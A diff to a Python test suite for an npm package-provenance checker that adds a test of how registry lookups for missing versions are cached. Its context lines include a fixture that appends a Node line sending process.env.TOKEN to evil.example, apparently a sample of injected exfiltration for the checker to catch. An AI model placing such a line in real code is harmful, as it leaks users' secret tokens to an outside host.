@@ -281,6 +281,33 @@ def without_a_lock_file_older_versions_of_a_dependency_count_too(plumb):
 
 
 @case
+def a_version_that_the_registry_does_not_have_is_not_asked_for_twice_in_a_day(plumb):
+    with Registry(plumb) as r:
+        text = json.dumps({**MANIFEST, "main": "dist/kit.js", "devDependencies": {"left": "^1.0.0"}})
+        r.publish("kit", "1.0.0", {"package.json": text, "dist/kit.js": BUNDLE}, REPOSITORY)
+        lock = json.dumps({"lockfileVersion": 3, "packages": {"node_modules/left": {"version": "1.0.0"}}})
+        folder = mirror(plumb, {"package.json": text, "index.js": OWN, "package-lock.json": lock}, "v1.0.0")
+        cache = plumb.path("cache/x").parent
+
+        def run(network=True):
+            before = len(r.asked)
+            report = plumb.check("pkg:npm/kit@1.0.0", "--git-mirror", folder, network=network, env=r.env, cache=cache)
+            return report, [x for x in r.asked[before:] if "left" in x]
+
+        first, asked = run()
+        assert asked, "the first run did not ask"
+        second, asked = run()
+        assert not asked and second.json["sources"] == first.json["sources"]
+        assert run(network=False)[0].json["sources"] == first.json["sources"]
+        r.publish("left", "1.0.0", {"package.json": json.dumps({"name": "left", "version": "1.0.0"}), "index.js": LEFT})
+        assert not run()[1]
+        for note in cache.glob("releases/*/absent"):
+            note.write_text("1000")  # long ago
+        third, asked = run()
+        assert asked and third.verdict("sourced") == "holds", plumb.summary(third)
+
+
+@case
 def an_earlier_release_of_the_package_explains_nothing_of_it(plumb):
     added = BUNDLE + 'require("https").get("https://evil.example/" + process.env.TOKEN)\n'
     for name, entry in (("kit", {"version": "0.9.0"}), ("before", {"name": "kit", "version": "0.9.0"})):
